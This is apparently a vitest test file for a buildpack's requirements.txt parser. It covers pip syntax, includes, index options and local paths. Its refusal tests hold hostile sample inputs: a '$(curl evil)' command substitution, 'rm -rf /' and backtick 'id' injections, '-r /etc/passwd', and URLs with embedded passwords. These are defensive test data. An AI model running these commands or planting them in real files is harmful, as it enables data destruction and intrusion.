import { describe, expect, test } from 'vitest';
import { readRequirements } from '../../../buildpacks/python/requirements.ts';
import { memoryCheckout } from '../../support/checkout.ts';

const read = (files: Record<string, string>, file = 'requirements.txt') =>
  readRequirements(memoryCheckout(files), file);
const lines = async (text: string) => (await read({ 'requirements.txt': text })).requirements;

describe('what people write in requirements.txt', () => {
  test.each([
    ['numpy', ['numpy']],
    ['numpy==1.22.3  # the last good one', ['numpy==1.22.3']],
    ['pandas >= 1.2, < 2', ['pandas>=1.2,<2']],
    ['requests[security,socks]~=2.0', ['requests[security,socks]~=2.0']],
    ['scipy (>=1.0)', ['scipy>=1.0']],
    ['numpy==1.*', ['numpy==1.*']],
    ['tensorflow==2.0 ; python_version < "3.8"', ['tensorflow==2.0 ; python_version < "3.8"']],
    ['numpy \\\n  >=1.0 \\\n  ,<2', ['numpy>=1.0,<2']],
    ['\ufeffnumpy'.slice(1), ['numpy']],
    ['numpy\r\npandas\rscipy', ['numpy', 'pandas', 'scipy']],
    [
      'numpy==1.22.3 \\\n    --hash=sha256:abc123 \\\n    --hash=sha256:def456',
      ['numpy==1.22.3 --hash=sha256:abc123 --hash=sha256:def456'],
    ],
    ['# only a comment\n\n   \n', []],
    ['numpy @ file:///home/conda/feedstock_root/build_artifacts/numpy_1/work', ['numpy']],
    ['git+https://github.com/org/pkg.git@v1.0#egg=pkg', ['pkg @ git+https://github.com/org/pkg.git@v1.0']],
    [
      '-e git+https://github.com/org/pkg#egg=pkg&subdirectory=python',
      ['pkg @ git+https://github.com/org/pkg#subdirectory=python'],
    ],
    ['git+https://github.com/org/pkg#egg=pkg[torch]', ['pkg[torch] @ git+https://github.com/org/pkg']],
    [
      '-e git+https://github.com/org/pkg@v1#egg=pkg%5Ba%2Cb%5D&subdirectory=python ; python_version >= "3.6"',
      ['pkg[a,b] @ git+https://github.com/org/pkg@v1#subdirectory=python ; python_version >= "3.6"'],
    ],
    ['pkg[a] @ git+https://github.com/org/pkg#egg=pkg[b]', ['pkg[a] @ git+https://github.com/org/pkg']],
    [
      'https://example.org/pkg.zip#subdirectory=x&egg=pkg[a, b]',
      ['pkg[a,b] @ https://example.org/pkg.zip#subdirectory=x'],
    ],
    ['pkg @ https://example.org/pkg-1.0-py3-none-any.whl', ['pkg @ https://example.org/pkg-1.0-py3-none-any.whl']],
    ['pkg-resources==0.0.0\nnumpy', ['numpy']],
  ])('%j', async (text, expected) => {
    expect(await lines(text)).toEqual(expected);
  });

  test('follows -r and -c relative to the including file, each once', async () => {
    const found = await read({
      'requirements.txt': '-r deps/base.txt\n-c limits.txt\npandas',
      'deps/base.txt': '-r more.txt\nnumpy==1.22.3',
      'deps/more.txt': '-r ../requirements.txt\nscipy',
      'limits.txt': 'pandas<2',
    });
    expect(found.requirements).toEqual(['scipy', 'numpy==1.22.3', 'pandas']);
    expect(found.constraints).toEqual(['pandas<2']);
    expect(found.files).toEqual(['requirements.txt', 'deps/base.txt', 'deps/more.txt', 'limits.txt']);
    expect(found.pins).toEqual([{ name: 'numpy', version: '1.22.3', file: 'deps/base.txt' }]);
  });

  test('a file may hold constraints for one and requirements for another', async () => {
    const limits = { 'limits.txt': 'numpy==1.26.0\ngit+https://github.com/org/pkg@v1#egg=pkg\n-e ./lib' };
    const expected = ['numpy==1.26.0', 'pkg @ git+https://github.com/org/pkg@v1'];
    for (const text of ['-c limits.txt\n-r limits.txt', '-r limits.txt\n-c limits.txt', '-r a.txt\n-r b.txt']) {
      const more = { 'a.txt': '-c limits.txt', 'b.txt': '-r limits.txt\n-r a.txt' };
      const found = await read({ 'requirements.txt': text, ...limits, ...more });
      expect([found.requirements, found.constraints]).toEqual([expected, expected]);
      expect(found.files.filter((file) => file === 'limits.txt')).toHaveLength(1);
      expect(found.pins).toHaveLength(1);
      expect(found.local).toHaveLength(1);
      expect(found.notices.filter(({ code }) => code === 'direct-url')).toHaveLength(1);
    }
  });

  test('a constraint installs nothing', async () => {
    const found = await read({ 'requirements.txt': '-c limits.txt', 'limits.txt': '-e ./lib' });
    expect(found.local).toEqual([]);
    expect(found.notices).toMatchObject([{ code: 'ignored-option', file: 'limits.txt' }]);
    expect(found.notices[0]?.message).toContain('limits.txt, line 1');
  });

  test('what needs the repository itself is kept apart', async () => {
    const found = await read({
      'requirements.txt': '-e .[test]\n./libs/one\nlibs/two.whl\nnumpy',
      'libs/one/setup.py': '',
    });
    expect(found.local).toEqual([
      { path: '', extras: '[test]', editable: true, file: 'requirements.txt' },
      { path: 'libs/one', extras: '', editable: false, file: 'requirements.txt' },
      { path: 'libs/two.whl', extras: '', editable: false, file: 'requirements.txt' },
    ]);
    expect(found.requirements).toEqual(['numpy']);
  });

  test("what needs the repository is named from pip's working directory, which is its root", async () => {
    const paths = async (text: string) => {
      const files = { 'binder/requirements.txt': text, 'binder/only/setup.py': '', 'lib/setup.py': '', 'setup.py': '' };
      const found = await readRequirements(memoryCheckout(files), 'binder/requirements.txt');
      return found.local.map(({ path }) => path);
    };
    expect(await paths('-e .\n.[viz]\n./lib\n-e file:lib#egg=lib')).toEqual(['', '', 'lib', 'lib']);
    const extras = await read({ 'requirements.txt': '-e .#egg=x[viz]\nfile:lib#egg=x%5Bviz%5D&subdirectory=y' });
    expect(extras.local.map((one) => one.extras)).toEqual(['[viz]', '[viz]']);
    // What is there only beside the file is still found.
    expect(await paths('./only\n-e ..')).toEqual(['binder/only', '']);
    expect(await paths('./none')).toEqual(['none']);
    await expect(paths('-e ../../x')).rejects.toThrow('outside the repository');
    const course = { 'course/binder/requirements.txt': '-r ../more/dev.txt', 'course/more/dev.txt': '-e .\n./lib' };
    const found = await readRequirements(
      memoryCheckout({ ...course, 'course/lib/setup.py': '' }, { subdir: 'course' }),
      'course/binder/requirements.txt',
    );
    expect(found.local.map(({ path }) => path)).toEqual(['course', 'course/lib']);
  });

  test('an index of its own is taken, and said', async () => {
    const found = await read({ 'requirements.txt': '--extra-index-url https://download.example.org/whl/cpu\ntorch' });
    expect(found.indexOptions).toEqual(['--extra-index-url', 'https://download.example.org/whl/cpu']);
    expect(found.notices).toMatchObject([{ code: 'own-index', file: 'requirements.txt' }]);
  });

  test.each([
    [
      '-i https://a.example.org/simple --extra-index-url=https://b.example.org/simple',
      ['--index-url', 'https://a.example.org/simple', '--extra-index-url', 'https://b.example.org/simple'],
      ['own-index', 'own-index'],
    ],
    [
      '--extra-index-url https://a.example.org/simple --trusted-host a.example.org -q',
      ['--extra-index-url', 'https://a.example.org/simple'],
      ['own-index', 'ignored-option'],
    ],
    ['--no-index --find-links ./wheels', [], ['ignored-option', 'ignored-option']],
    ['-f file:///srv/wheels', [], ['ignored-option']],
    [
      '--prefer-binary -f "https://a.example.org/wheels.html"',
      ['--find-links', 'https://a.example.org/wheels.html'],
      ['own-index'],
    ],
  ])('several options on a line: %j', async (text, options, codes) => {
    const found = await read({ 'requirements.txt': `${text}\nnumpy` });
    expect(found.indexOptions).toEqual(options);
    expect(found.notices.map(({ code }) => code)).toEqual(codes);
    expect(found.requirements).toEqual(['numpy']);
  });

  test('what follows an option is its value, whatever dashes are in it', async () => {
    const found = await read({
      'requirements.txt': '-r my-more.txt -c limits.txt\n-e ./my-lib --config-settings editable_mode=compat',
      'my-more.txt': 'numpy',
      'limits.txt': 'numpy<2',
    });
    expect([found.requirements, found.constraints]).toEqual([['numpy'], ['numpy<2']]);
    expect(found.local).toMatchObject([{ path: 'my-lib', editable: true }]);
    expect(found.notices).toMatchObject([
      { code: 'ignored-option', message: expect.stringContaining('--config-settings editable_mode=compat') },
    ]);
  });

  test('--pre counts wherever it stands, for all files', async () => {
    const files = { 'requirements.txt': 'numpy\n-r more.txt', 'more.txt': '--pre -r most.txt', 'most.txt': 'six' };
    expect(await read(files)).toMatchObject({ requirements: ['numpy', 'six'], prereleases: true, notices: [] });
    expect(await read({ 'requirements.txt': 'numpy' })).toMatchObject({ prereleases: false });
  });

  const own = 'https://own.example.org/simple';
  test.each([
    ['-i https://pypi.org/simple', [], 0],
    ['--index-url=https://pypi.org/simple/', [], 0],
    ['-i http://pypi.python.org/simple\n--extra-index-url https://pypi.org/simple', [], 0],
    [`-i https://pypi.org/simple\n--extra-index-url ${own}`, ['--extra-index-url', own], 1],
    // Whoever puts an index in its place still wants PyPI beside it.
    [
      `--extra-index-url https://pypi.org/simple\n-i ${own}`,
      ['--extra-index-url', 'https://pypi.org/simple', '--index-url', own],
      1,
    ],
    [`-i ${own}\n-i https://pypi.org/simple`, [], 1],
    ['-i https://test.pypi.org/simple', ['--index-url', 'https://test.pypi.org/simple'], 1],
    ['-i https://pypi.org.example.org/simple', ['--index-url', 'https://pypi.org.example.org/simple'], 1],
  ])('PyPI is no index of its own: %j', async (text, options, notices) => {
    const found = await read({ 'requirements.txt': `${text}\nnumpy` });
    expect(found.indexOptions).toEqual(options);
    expect(found.notices).toHaveLength(notices);
  });
});

describe('what is refused, with file and line', () => {
  test.each([
    ['numpy\nnumpy=1.2', 'bad_environment_file', 'requirements.txt, line 2', 'numpy==1.2'],
    ['$(curl evil)', 'bad_environment_file', 'line 1', ''],
    ['numpy; rm -rf /', 'bad_environment_file', 'line 1', 'marker'],
    ['numpy ; python_version < "3" `id`', 'bad_environment_file', 'line 1', 'marker'],
    ['-r /etc/passwd', 'unsafe_file', 'outside the repository', ''],
    ['-r ../../x', 'unsafe_file', 'outside the repository', ''],
    ['-e ../other', 'unsafe_file', 'outside the repository', ''],
    ['-r https://example.org/r.txt', 'bad_environment_file', 'not a file of the repository', ''],
    ['-r missing.txt', 'bad_environment_file', 'does not exist', ''],
    ['--index-url ftp://example.org', 'bad_environment_file', 'line 1', 'index'],
    ['--index-url https://user:hunter2@example.org/simple', 'bad_environment_file', 'password', ''],
    ['git+https://token:x@example.org/a.git', 'bad_environment_file', 'password', 'revoke'],
    ['--index-url', 'bad_environment_file', 'requirements.txt, line 1: --index-url', 'with a value'],
    ['-q --frobnicate', 'bad_environment_file', 'line 1: --frobnicate', '--extra-index-url'],
    ['--frobnicate', 'bad_environment_file', 'line 1', '--extra-index-url'],
    [`numpy${' '.repeat(10)}=${'='.repeat(9000)}`, 'bad_environment_file', 'line 1', ''],
  ])('%j', async (text, code, message, hint) => {
    const error = await read({ 'requirements.txt': text }).catch((thrown) => thrown);
    expect(error.code).toBe(code);
    expect(error.message).toContain(message);
    expect(error.hint).toContain(hint);
    expect(error.message + error.hint).not.toContain('hunter2');
  });

  test('stays fast on a megabyte of anything', async () => {
    const started = performance.now();
    for (const text of [
      'a'.repeat(1e6),
      `${' '.repeat(1e6)}x`,
      `numpy${'.'.repeat(1e6)}!`,
      '[,'.repeat(5e5),
      '--hash '.repeat(1e5),
    ]) {
      await read({ 'requirements.txt': text }).catch(() => undefined);
    }
    expect(performance.now() - started).toBeLessThan(3000);
  });
});
